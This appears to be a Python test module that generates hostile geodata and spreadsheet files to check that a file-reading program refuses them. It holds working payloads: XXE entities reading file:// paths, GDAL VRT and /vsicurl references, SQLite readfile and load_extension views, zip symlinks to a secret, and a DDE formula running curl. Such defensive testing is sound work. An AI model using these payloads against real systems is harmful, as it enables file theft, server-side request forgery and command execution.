"""Files that try to make the program read another file of the machine, or call an address: entries 90 to 98 and more.

Each trap gets the path of a file with a secret (the canary) and the address of a server of our own that counts requests.
"""

from __future__ import annotations

import json
import sqlite3
import stat
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import geopandas as gpd
from bad_places import AREAS, archive, places
from bad_workbooks import HEAD, SPACE, changed, ods_of, sheet, table, workbook
from study_files import EAST, NORTH, geojson

CANARY = "Kanarienvogel7f3a"
POINTS = [(EAST + 250, NORTH + 500), (EAST + 1500, NORTH + 500)]
Trap = Callable[[Path, Path, str], None]  # where to write it, the secret, the address
SHP = b"\x00\x00\x27\x0a"
GIF = b"GIF89a" + bytes(20)


def text(template: str) -> Trap:
    """Return a trap that is a text; ``{secret}`` and ``{url}`` stand for the prey."""

    def write(path: Path, secret: Path, url: str) -> None:
        content = template.replace("{secret}", secret.as_posix()).replace("{url}", url)
        path.write_text(content, encoding="utf-8")
        for ending in (".shx", ".dbf"):  # so that a shapefile does not fail for its parts
            path.with_suffix(ending).write_bytes(b"x")

    return write


VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="geheim"><SrcDataSource>{secret}</SrcDataSource><SrcLayer>geheim</SrcLayer>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)
CURL = VRT.replace("{secret}", "/vsicurl/{url}/geheim.csv")
PIPELINE = '{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read {secret}", "note": {"type": "FeatureCollection"}}'
HIDDEN_PIPELINE = PIPELINE.replace("gdal_streamed_alg", "gdal\\u005fstreamed\\u005falg")
WFS = "<OGRWFSDataSource><URL>{url}/wfs?SERVICE=WFS</URL></OGRWFSDataSource>"
CSW = "<OGRCSWDataSource><URL>{url}/csw</URL></OGRCSWDataSource>"
OAPIF = '{"type": "FeatureCollection", "links": [{"rel": "next", "href": "{url}/next"}, {"rel": "data", "href": "{url}/collections"}], "features": []}'
LANDING = '{"title": "x", "links": [{"rel": "data", "type": "application/json", "href": "{url}/collections"}], "type": "FeatureCollection"}'
ESRI = '{"displayFieldName": "", "geometryType": "esriGeometryPoint", "exceededTransferLimit": true, "features": [], "note": {"type": "FeatureCollection"}}'
TOPO = '{"type": "Topology", "objects": {"x": {"type": "GeometryCollection"}}, "arcs": [], "href": "{url}", "note": {"type": "Feature"}}'
STAC = '{"type": "FeatureCollection", "stac_version": "1.0.0", "features": [{"type": "Feature", "stac_version": "1.0.0", "properties": {}, "geometry": null, "assets": {"a": {"href": "/vsicurl/{url}/x.tif"}}}]}'
LINKED = '{"type": "FeatureCollection", "crs": {"type": "%s", "properties": {"%s": "{url}/crs", "type": "ogcwkt"}}, "features": [{"type": "Feature", "properties": {"Name": "a", "Art": "Kita"}, "geometry": {"type": "Point", "coordinates": [9, 51]}}]}'
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{url}/x.kml</href></Link></NetworkLink><Style><IconStyle><Icon><href>{url}/i.png</href></Icon></IconStyle></Style></Document></kml>'
GML = '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="x {url}/x.xsd"><gml:featureMember xlink:href="{url}/f"/></gml:FeatureCollection>'
XXE = '<!DOCTYPE x [<!ENTITY geheim SYSTEM "file://{secret}">]><gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:name>&geheim;</gml:name></gml:FeatureCollection>'
PLACEMARK = XXE.replace("gml:FeatureCollection", "kml").replace("gml:name", "name")
HTTP = "<GDAL_HTTP><URL>{url}/x.geojson</URL></GDAL_HTTP>"
WMS = '<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${x}</ServerUrl></Service></GDAL_WMS>'
PIPED = '=cmd|"/c curl {url}"!A1'


def zipped(**members: str) -> Trap:
    """Return a trap that is an archive of texts; a double underscore stands for a dot."""

    def write(path: Path, secret: Path, url: str) -> None:
        filled = {
            n.replace("__", "."): t.replace("{secret}", secret.as_posix()).replace("{url}", url).encode()
            for n, t in members.items()
        }
        path.write_bytes(archive(filled))

    return write


def linked(*names: str) -> Trap:
    """Return a trap that is an archive whose members of these names are links to the secret."""

    def write(path: Path, secret: Path, url: str) -> None:
        frame = places(POINTS)
        frame.to_file(path.with_suffix(".d.shp"))
        with zipfile.ZipFile(path, "w") as opened:
            for ending in (".shp", ".shx", ".dbf", ".prj"):
                part = path.with_name(path.with_suffix(".d.shp").stem + ending)
                info = zipfile.ZipInfo(f"x{ending}")
                if ending in names:
                    info.external_attr = (stat.S_IFLNK | 0o777) << 16
                opened.writestr(info, secret.as_posix() if ending in names else part.read_bytes())
                part.unlink()

    return write


def database(*statements: str, frame: gpd.GeoDataFrame | None = None) -> Trap:
    """Return a trap that is a GeoPackage with statements of its own in its schema."""

    def write(path: Path, secret: Path, url: str) -> None:
        (places(POINTS) if frame is None else frame).to_file(path, layer="orte", driver="GPKG")
        with closing(sqlite3.connect(path)) as opened:
            opened.execute("PRAGMA writable_schema = ON")
            for statement in statements:
                filled = statement.replace("{secret}", secret.as_posix()).replace("{url}", url)
                opened.execute(filled)
            opened.commit()

    return write


def virtual(name: str, sql: str) -> str:
    return f"INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', '{name}', '{name}', 0, '{sql}')"


def contents(name: str) -> str:
    return f"INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('{name}', 'attributes', '{name}')"


def book(**more: str) -> Trap:
    """Return a trap that is a workbook with these members."""

    def write(path: Path, secret: Path, url: str) -> None:
        names = {
            n.replace("__", ".").replace("_S_", "/"): t.replace("{secret}", secret.as_posix()).replace("{url}", url)
            for n, t in more.items()
        }
        path.write_bytes(workbook(sheet(table()), more=names))

    return write


def formula(text_: str) -> Trap:
    def write(path: Path, secret: Path, url: str) -> None:
        filled = (
            text_.replace("{secret}", secret.as_posix())
            .replace("{url}", url)
            .replace("&", "&amp;")
            .replace('"', "&quot;")
        )
        path.write_bytes(workbook(sheet(changed(1, 0, f'<c r="?" t="str"><f>{filled}</f><v>Süd</v></c>'))))

    return write


def picture(path: Path, secret: Path, url: str) -> None:
    frame = f'<draw:frame><draw:image xlink:href="{url}/i.png"/></draw:frame></table:table-cell>'
    path.write_bytes(ods_of(table(), ("</table:table-cell>", frame)))


def projection(content: str) -> Trap:
    """Return a trap that is a shapefile with this for its coordinate system."""

    def write(path: Path, secret: Path, url: str) -> None:
        places(POINTS).to_file(path)
        path.with_suffix(".prj").write_text(content.replace("{secret}", secret.as_posix()).replace("{url}", url))

    return write


def parquet(crs: str) -> Trap:
    def write(path: Path, secret: Path, url: str) -> None:
        import pyarrow.parquet as pq

        places(POINTS).to_parquet(path)
        read = pq.read_table(path)
        geo = json.loads(read.schema.metadata[b"geo"])
        geo["columns"]["geometry"]["crs"] = crs.replace("{secret}", secret.as_posix()).replace("{url}", url)
        pq.write_table(read.replace_schema_metadata({b"geo": json.dumps(geo)}), path)

    return write


def joined(first: bytes, second: str) -> Trap:
    """Return a trap that is two files in one."""

    def write(path: Path, secret: Path, url: str) -> None:
        path.write_bytes(first + second.replace("{secret}", secret.as_posix()).replace("{url}", url).encode())
        for ending in (".shx", ".dbf"):
            path.with_suffix(ending).write_bytes(b"x")

    return write


def named(path: Path, secret: Path, url: str) -> None:
    """Write a good file whose properties are addresses."""
    path.write_text(geojson(places(POINTS, Name=[f"/vsicurl/{url}/x", f"CSV:{secret}"])), encoding="utf-8")


# name → (trap, is it refused)
TRAPS: dict[str, tuple[Trap, bool]] = {
    **{f"vrt.{kind}": (text(VRT), True) for kind in ("vrt", "geojson", "json", "gpkg", "fgb", "shp", "csv", "txt", "tsv", "xlsx", "ods", "parquet", "zip", "xml")},
    "vrt_bom.geojson": (text("\ufeff" + VRT), True),
    "vrt_leer.csv": (text("\n\n  " + VRT), True),
    "vrt_netz.geojson": (text(CURL), True),
    "vrt_netz.gpkg": (text(CURL), True),
    "vrt_glied.zip": (zipped(x__shp=VRT, x__shx="x", x__dbf="x"), True),
    "vrt_allein.zip": (zipped(x__vrt=VRT), True),
    "vrt_neben.zip": (zipped(x__shp=CURL, x__shx="x", x__dbf="x", x__prj=VRT), True),
    "pipeline.geojson": (text(PIPELINE), True),
    "pipeline.json": (text(PIPELINE.replace("{secret}", "/vsicurl/{url}/x.geojson")), True),
    "pipeline_versteckt.geojson": (text(HIDDEN_PIPELINE), True),
    "wfs.geojson": (text(WFS), True),
    "wfs.gpkg": (text(WFS), True),
    "wfs.csv": (text(WFS), True),
    "csw.json": (text(CSW), True),
    "http.geojson": (text(HTTP), True),
    "wms.geojson": (text(WMS), True),
    "oapif.geojson": (text(OAPIF), True),
    "landing.json": (text(LANDING), True),
    "esri.json": (text(ESRI), True),
    "topologie.json": (text(TOPO), True),
    "stac.json": (text(STAC), False),
    "kml_verweis.kml": (text(KML), True),
    "kml_verweis.geojson": (text(KML), True),
    "kmz.zip": (zipped(doc__kml=KML), True),
    "kml_xxe.kml": (text(PLACEMARK), True),
    "gml_schema.gml": (text(GML), True),
    "gml_schema.json": (text(GML), True),
    "gml_xxe.gml": (text(XXE), True),
    "gml_xxe.csv": (text(XXE), True),
    "crs_link.geojson": (text(LINKED % ("link", "href")), True),
    "crs_url.geojson": (text(LINKED % ("url", "url")), True),
    "crs_versteckt.geojson": (text((LINKED % ("link", "href")).replace('"link"', '"li\\u006ek"')), True),
    "crs_name.geojson": (text(LINKED % ("name", "name")), True),
    "crs_innen.geojson": (text((LINKED % ("link", "href")).replace('"crs"', '"xyz"').replace('"type": "Point"', '"type": "Point", "crs": {"type": "link", "properties": {"href": "{url}/innen"}}')), True),
    "crs_doppelt.geojson": (text((LINKED % ("link", "href")).replace('"features"', '"crs": {"type": "name", "properties": {"name": "EPSG:4326"}}, "features"')), True),
    "crs_adresse.gpkg": (database("UPDATE gpkg_spatial_ref_sys SET definition = '{url}/crs', organization = 'NONE', organization_coordsys_id = 9999 WHERE srs_id = 25832"), True),
    "sicht_erweiterung.gpkg": (database("CREATE VIEW v AS SELECT load_extension('{secret}') AS x", contents("v")), True),
    "sicht.gpkg": (database("CREATE VIEW v AS SELECT readfile('{secret}') AS x", contents("v")), True),
    "sicht_endlos.gpkg": (database("CREATE VIEW v AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x FROM r", contents("v")), True),
    "ausloeser.gpkg": (database("CREATE TRIGGER t AFTER INSERT ON orte BEGIN DELETE FROM orte; END"), True),
    "ausloeser_getarnt.gpkg": (database("CREATE TRIGGER gpkg_x AFTER INSERT ON orte BEGIN DELETE FROM orte; END"), False),
    "virtuell_ogr.gpkg": (database(virtual("v", "CREATE VIRTUAL TABLE v USING VirtualOGR(''{secret}'')"), contents("v")), True),
    "virtuell_csv.gpkg": (database(virtual("v", "CREATE VIRTUAL TABLE v USING csv(filename=''{secret}'')"), contents("v")), True),
    "verweis_dbf.zip": (linked(".dbf"), True),
    "verweis_shp.zip": (linked(".shp"), True),
    "verweis_prj.zip": (linked(".prj"), True),
    "bild_vor_archiv.zip": (joined(GIF, VRT), True),
    "kopf_und_vrt.shp": (joined(SHP + bytes(96), VRT), True),
    "kopf_und_vrt.fgb": (joined(b"fgb\x03fgb\x00", VRT), True),
    "kopf_und_vrt.gpkg": (joined(b"SQLite format 3\x00" + bytes(84), VRT), True),
    "kopf_und_vrt.parquet": (joined(b"PAR1", VRT + "PAR1"), True),
    "json_und_vrt.geojson": (joined(b'{"x": 1}\n', VRT + '{"type": "FeatureCollection"}'), True),
    "prj_adresse.shp": (projection("{url}/crs.prj"), False),
    "prj_datei.shp": (projection("+proj=longlat +nadgrids={secret} +no_defs"), False),
    "crs_adresse.parquet": (parquet("{url}/crs.json"), True),
    "crs_datei.parquet": (parquet("{secret}"), True),
    "mappe_verweis.xlsx": (book(xl_S_externalLinks_S_externalLink1__xml=f'{HEAD}<externalLink xmlns="{SPACE}spreadsheetml/2006/main"><externalBook/></externalLink>',
                                xl_S_externalLinks_S__rels_S_externalLink1__xml__rels='<Relationships><Relationship Id="rId1" Target="file://{secret}" TargetMode="External"/></Relationships>'), False),
    "mappe_abfrage.xlsx": (book(xl_S_connections__xml='<connections><connection id="1"><webPr url="{url}/q"/></connection></connections>'), False),
    "mappe_netz.xlsx": (formula('WEBSERVICE("{url}/w")'), False),
    "mappe_bild.xlsx": (formula('IMAGE("{url}/i.png")'), False),
    "mappe_dde.xlsx": (formula(PIPED), False),
    "mappe_xxe.xlsx": (book(xl_S_sharedStrings__xml='<!DOCTYPE x [<!ENTITY g SYSTEM "file://{secret}">]><sst><si><t>&g;</t></si></sst>'), True),
    "mappe_bild.ods": (picture, False),
    "namen.geojson": (named, False),
}  # fmt: skip

# What people may type, or a file may be called, instead of a file: no path ever comes from a person
TYPED = (
    "/vsicurl/{url}/geheim.csv", "/vsicurl_streaming/{url}/geheim.geojson", "{url}/geheim.geojson", "CSV:{secret}",
    "/vsizip/{url}/x.zip", "/vsisubfile/0_100,{secret}", "GeoJSON:{url}/x.geojson", "WFS:{url}/wfs", "zip://{secret}!x.shp",
    "http+zip://{url}/x.zip",
)  # fmt: skip
assert AREAS is not None
